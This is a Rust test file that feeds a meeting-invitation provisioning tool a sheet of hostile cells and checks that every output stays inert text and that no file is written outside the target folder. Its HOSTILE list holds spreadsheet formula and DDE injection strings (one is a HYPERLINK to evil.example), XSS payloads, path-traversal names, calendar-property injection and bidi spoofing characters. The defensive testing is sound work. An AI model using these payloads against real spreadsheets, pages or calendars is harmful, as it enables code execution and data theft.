//! Cells that were written to harm, in every field of one sheet, through the real program into every product at once:
//! none is more than text anywhere, and nothing is written but where it was asked for.

use std::collections::{BTreeSet, HashSet};
use std::fs;
use std::path::{Path, PathBuf};

use calamine::{Data, Reader as _, Xlsx, open_workbook};
use csv::{ReaderBuilder, WriterBuilder};
use serde_json::Value;

use crate::binary::{convoke, run};
use crate::harness::organizer;

const HOSTILE: [&str; 33] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example?x=\"&A1;\"Join\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u{202e}=1+1",
    "\u{feff}\u{200b}=1+1",
    "<script>document.title = 'ran'</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title></style></textarea></svg><script>alert(1)</script>",
    "javascript:alert(1)",
    "../../evil",
    "..\\..\\evil",
    "/etc/evil",
    "C:\\evil",
    "..",
    "CON",
    "nul.txt",
    "com1",
    "ends with a dot.",
    "-rf",
    "KEY",
    "key",
    "two\r\nlines\rthree\nfour",
    "x\r\nEND:VEVENT\r\nATTENDEE:mailto:eve@evil.example",
    "a\u{202e}gpj.exe\u{2066}\u{200f}",
    "one;two,three\"four\\n\\",
    "a\u{1}b\u{1b}[2Jc\u{7f}\u{9b}",
    "\"} convoke_rows 1\n#",
    "Ada <ada@evil.example>",
];
/// What begins a formula.
const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const FILES: [&str; 10] = [
    "in.csv",
    "out.csv",
    "out.excel.csv",
    "out.xlsx",
    "people.csv",
    "people.xlsx",
    "feed.ics",
    "coordinates.jsonl",
    "report.html",
    "report.json",
];
const FOLDERS: [&str; 3] = ["html", "ics", "qr"];

/// A row with each of them in every field that may say anything, and one in those that may not.
fn sheet() -> Vec<u8> {
    let mut writer = WriterBuilder::new().from_writer(Vec::new());
    let own = ["externalId", "organizerUserId", "subject", "startDateTime", "endDateTime", "timeZone", "attendees"];
    let extra = ["=1+1", "<u>room</u>\u{202e}", "joinWebUrl;x"];
    writer.write_record(own.iter().chain(&extra)).expect("memory");
    for (number, hostile) in (1..).zip(HOSTILE) {
        let is_id = !hostile.contains(|c: char| c.is_control() || c == '\u{feff}');
        let id = if is_id { hostile.to_owned() } else { format!("id {number}") };
        let name = hostile.replace(['"', '<', '>'], " ").replace("@evil", " at evil");
        let (organizer, attendee) = (organizer(number % 3), format!("\"{name}\" <ada{number}@contoso.example>"));
        let (start, end, zone) = ("2027-03-01T10:00", "2027-03-01T11:00", "Europe/Berlin");
        let extra = [hostile; 3];
        let valid = [&*id, &organizer, hostile, start, end, zone, &attendee];
        writer.write_record(valid.iter().chain(&extra)).expect("memory");
        writer.write_record([hostile; 7].iter().chain(&extra)).expect("memory");
    }
    writer.into_inner().expect("memory")
}

/// Makes every product of the sheet in a folder within others, where a way out of it would be seen.
fn made(home: &Path) -> PathBuf {
    let folder = home.join("a/b/c");
    fs::create_dir_all(&folder).expect("a folder");
    fs::write(folder.join("in.csv"), sheet()).expect("a file");
    let products = "--excel --xlsx out.xlsx --recipients people.csv --ics-dir ics --ics-feed feed.ics --ics-method request \
                    --html-dir html --coordinates coordinates.jsonl --qr-dir qr --report report.html --report report.json \
                    --metrics convoke.prom";
    let mut command = convoke(["provision", "in.csv", "-o", "out.csv", "--rehearse=calm", "--rate=max"]);
    let (status, _, stderr) = run(command.args(products.split_whitespace()).current_dir(&folder));
    assert_eq!(status, Some(1), "some rows are invalid, and all is made: {stderr}");
    let mut again = convoke(["publish", "out.csv", "--recipients", "people.xlsx"]);
    let (status, _, stderr) = run(again.current_dir(&folder));
    assert_eq!(status, Some(0), "{stderr}");
    folder
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).unwrap_or_else(|why| panic!("{}: {why}", path.display()))
}

/// All files of a folder and those in it, by their names.
fn names(folder: &Path) -> BTreeSet<String> {
    let entries = fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry"));
    entries.map(|entry| entry.file_name().into_string().expect("UTF-8")).collect()
}

/// Whether nobody sees it: it turns the direction of text, has no width, or is a control.
fn is_unseen(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn check_seen(text: &str, of_what: &str) {
    let unseen = text.find(|c| is_unseen(c) && !matches!(c, '\n' | '\r'));
    assert_eq!(unseen.map(|at| &text.as_bytes()[at.saturating_sub(40)..at]), None, "{of_what}");
}

/// A formula that is nothing but a number in quotation marks is the one way to say in CSV that it is none.
fn is_protected(cell: &str) -> bool {
    let inside = cell.strip_prefix("=\"").and_then(|rest| rest.strip_suffix('"'));
    inside.is_some_and(|inside| inside.chars().all(|c| c.is_ascii_alphanumeric() || "+-() .".contains(c)))
}

fn check_text(path: &Path) {
    let (text, of_what) = (read(path), path.display().to_string());
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    check_seen(text, &of_what);
    let mut reader = ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let mut records = 0;
    for record in reader.records() {
        for cell in &record.expect("as many cells as the header") {
            assert!(!cell.trim_start().starts_with(TRIGGERS) || is_protected(cell), "{of_what}: {cell:?}");
        }
        records += 1;
    }
    assert!(records > HOSTILE.len(), "{of_what}: {records}");
}

fn check_workbook(path: &Path) {
    let mut book: Xlsx<_> = open_workbook(path).expect("a workbook");
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        assert!(formulas.is_empty(), "{}: {name}", path.display());
        for cell in book.worksheet_range(&name).expect("a sheet").used_cells().map(|(_, _, cell)| cell) {
            assert!(!matches!(cell, Data::Error(_)), "{cell:?}");
            check_seen(&cell.to_string(), &path.display().to_string());
        }
    }
}

/// A page or a picture has no element and no attribute but those that it has anyway: nothing that runs, and no link to
/// another place than Teams.
fn check_markup(path: &Path) {
    let (text, of_what) = (read(path), path.display().to_string());
    check_seen(&text, &of_what);
    let mut scripts = 0;
    let (mut rest, is_report) = (text.as_str(), path.ends_with("report.html"));
    while let Some((_, tag)) = rest.split_once('<') {
        let (tag, behind) = tag.split_once('>').unwrap_or_else(|| panic!("{of_what}: a tag without an end"));
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default().to_ascii_lowercase();
        rest = behind;
        if matches!(&*name, "script" | "style") && !tag.starts_with('/') {
            scripts += usize::from(name == "script");
            rest = behind.split_once(&format!("</{name}>")).expect("it ends").1;
            continue;
        }
        assert!(!matches!(&*name, "img" | "iframe" | "object" | "embed" | "base"), "{of_what}: <{tag}>");
        assert_ne!(tag, "u", "{of_what}: the name of a column");
        let attributes = tag.split('"').step_by(2).map(|part| part.trim().to_ascii_lowercase());
        for attribute in attributes.flat_map(|part| part.split_whitespace().map(str::to_owned).collect::<Vec<_>>()) {
            assert!(!attribute.starts_with("on"), "{of_what}: <{tag}>");
        }
        if let Some((_, link)) = tag.split_once("href=\"") {
            assert!(link.starts_with("https://teams.example/") || link.starts_with('#'), "{of_what}: <{tag}>");
        }
    }
    assert_eq!(scripts, usize::from(is_report), "{of_what}");
}

/// Each line of a calendar, unfolded, is a property of its own.
fn check_calendar(path: &Path, events: usize) {
    let (text, of_what) = (read(path), path.display().to_string());
    check_seen(&text, &of_what);
    assert!(!text.replace("\r\n", "").contains(['\r', '\n']), "{of_what}: a line break that is none");
    let unfolded = text.replace("\r\n ", "");
    let lines: Vec<&str> = unfolded.lines().collect();
    let count = |wanted: &str| lines.iter().filter(|line| line.split([':', ';']).next() == Some(wanted)).count();
    // A feed is to look at and invites nobody.
    let invited = if path.ends_with("feed.ics") { 0 } else { events };
    for (property, wanted) in
        [("UID", events), ("DTSTART", events), ("SUMMARY", events), ("ATTENDEE", invited), ("ORGANIZER", invited)]
    {
        assert_eq!(count(property), wanted, "{of_what}: {property}");
    }
    assert_eq!(lines.iter().filter(|line| **line == "END:VEVENT").count(), events, "{of_what}");
    for line in lines {
        let (property, _) = line.split_once([':', ';']).unwrap_or_else(|| panic!("{of_what}: {line}"));
        assert!(property.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'-'), "{of_what}: {line}");
        assert!(!line.starts_with("ATTENDEE") || line.ends_with("@contoso.example"), "{of_what}: {line}");
    }
}

#[test]
fn nothing_malicious_in_any_field_reaches_any_product_as_more_than_text() {
    let home = tempfile::tempdir().expect("a directory");
    let folder = made(home.path());
    for name in ["out.excel.csv", "people.csv"] {
        check_text(&folder.join(name));
    }
    for name in ["out.xlsx", "people.xlsx"] {
        check_workbook(&folder.join(name));
    }
    check_markup(&folder.join("report.html"));
    check_calendar(&folder.join("feed.ics"), HOSTILE.len());
    for kind in FOLDERS {
        let files = names(&folder.join(kind));
        assert_eq!(files.len(), HOSTILE.len(), "{kind}: {files:?}");
        for path in files.iter().map(|name| folder.join(kind).join(name)) {
            if kind == "ics" { check_calendar(&path, 1) } else { check_markup(&path) }
        }
    }
    let lines = read(&folder.join("coordinates.jsonl"));
    assert_eq!(lines.lines().count(), HOSTILE.len());
    for line in lines.lines() {
        check_seen(line, "coordinates");
        let coordinates: Value = serde_json::from_str(line).expect("JSON");
        let link = coordinates["joinWebUrl"].as_str().expect("a link");
        assert!(link.starts_with("https://teams.example/"), "{link}");
    }
    let report = read(&folder.join("report.json"));
    check_seen(&report, "report.json");
    let report: Value = serde_json::from_str(&report).expect("JSON");
    assert_eq!(report["rows"], 2 * HOSTILE.len());
    let metrics = read(&folder.join("convoke.prom"));
    assert!(metrics.lines().all(|line| line.starts_with("# ") || line.starts_with("convoke_")), "{metrics}");
    assert!(!metrics.contains("evil") && !metrics.contains("script"), "{metrics}");
}

#[test]
fn no_file_is_written_elsewhere_and_every_name_is_good_on_every_system() {
    let home = tempfile::tempdir().expect("a directory");
    let folder = made(home.path());
    for (within, only) in [(home.path().to_owned(), "a"), (home.path().join("a"), "b"), (home.path().join("a/b"), "c")]
    {
        assert_eq!(names(&within), BTreeSet::from([only.to_owned()]));
    }
    let wanted = FILES.iter().chain(&FOLDERS).chain(&["convoke.prom"]).map(|name| (*name).to_owned());
    assert_eq!(names(&folder), wanted.collect());
    for kind in FOLDERS {
        let mut taken = HashSet::new();
        for name in names(&folder.join(kind)) {
            assert!(folder.join(kind).join(&name).is_file(), "{name}");
            assert!(taken.insert(name.to_lowercase()), "{name}: the same but for its case");
            assert!(name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte)), "{name}");
            assert!(name.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'), "{name}");
            assert!(name.len() < 100 && !name.ends_with('.'), "{name}");
            let stem = name.split('.').next().unwrap_or_default().to_ascii_uppercase();
            let (device, number) = stem.split_at(stem.len().min(3));
            let is_device = matches!(&*stem, "CON" | "PRN" | "AUX" | "NUL")
                || matches!(device, "COM" | "LPT") && number.len() == 1 && number != "_";
            assert!(!is_device, "{name}");
        }
    }
}
